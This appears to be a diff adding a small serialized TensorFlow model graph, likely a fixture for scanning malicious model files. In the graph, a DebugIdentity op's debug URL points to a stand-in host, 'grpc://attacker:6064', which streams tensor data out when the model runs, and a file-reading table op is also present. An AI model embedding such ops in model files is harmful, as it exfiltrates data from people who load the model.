@@ -1,0 +1,23 @@
+õ
+"serveè
+
+xPlaceholder
+
+wVarHandleOp
+
+mmMatMul
+
+saver/filenameConst
+
+saver/SaveV2SaveV2
+
+saver/RestoreV2	RestoreV2
+!
+saver/MergeMergeV2Checkpoints
+&
+tableInitializeTableFromTextFileV2
+<
+dbgDebugIdentity*&
+
+debug_urls
+grpc://attacker:6064"ø
